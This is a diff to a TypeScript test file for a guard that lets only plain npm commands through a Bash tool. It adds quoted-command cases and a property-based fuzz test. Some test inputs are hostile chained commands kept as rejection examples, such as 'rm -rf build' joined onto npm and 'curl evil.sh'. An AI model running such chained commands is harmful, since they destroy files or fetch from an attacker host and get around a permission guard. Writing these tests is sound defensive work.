@@ -1,3 +1,4 @@
+import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { checkNpmOnly, denialReason } from "../../src/activation/bash-guard.js";
 
@@ -36,6 +37,9 @@ describe("npm-only Bash guard", () => {
     ["node -e 1", /runs `node`/],
     ["/usr/bin/npm test", /runs `\/usr\/bin\/npm`/],
     ["NPM test", /runs `NPM`/],
+    ["'npm' test", /quoted/],
+    ["n'p'm test", /quoted/],
+    ['"npm" test', /quoted/],
     ["npm test && rm -rf build", /chaining/],
     ["npm test; rm -rf build", /separator/],
     ["npm test || curl evil.sh", /\|\| chain|pipe/],
@@ -86,5 +90,38 @@ describe("npm-only Bash guard", () => {
     expect(reason).toContain("only npm commands");
     expect(reason).toContain("it runs `rm`, not npm");
     expect(reason).toMatch(/show the command to the user/);
+  });
+});
+
+describe("npm-only Bash guard properties", () => {
+  /** The command with quoted stretches blanked out: what the shell would interpret. */
+  function unquoted(command: string): string {
+    let out = "";
+    let quote: string | undefined;
+    for (const ch of command) {
+      if (quote) {
+        if (ch === quote) quote = undefined;
+        continue;
+      }
+      if (ch === "'" || ch === '"') quote = ch;
+      else out += ch;
+    }
+    return out;
+  }
+
+  const alphabet = fc.constantFrom(..."npm rx-./=@:'\";&|<>()$`\n\t*?[]{}~#!\\a1".split(""));
+
+  it("anything it allows is one npm command with no shell syntax outside quotes and no expansion inside them", () => {
+    fc.assert(
+      fc.property(fc.array(alphabet, { maxLength: 30 }).map((chars) => chars.join("")), fc.boolean(), (tail, prefixed) => {
+        const command = prefixed ? `npm ${tail}` : tail;
+        if (!checkNpmOnly(command).allow) return;
+        expect(command.trimStart().startsWith("npm")).toBe(true);
+        expect(command.trimStart().slice(3)).toMatch(/^(\s|$)/);
+        expect(unquoted(command)).not.toMatch(/[;&|<>()$`\n\r*?[\]{}~#!\\]/);
+        expect(command).not.toMatch(/"[^"]*[$`\\!][^"]*"/);
+      }),
+      { numRuns: 2000 },
+    );
   });
 });
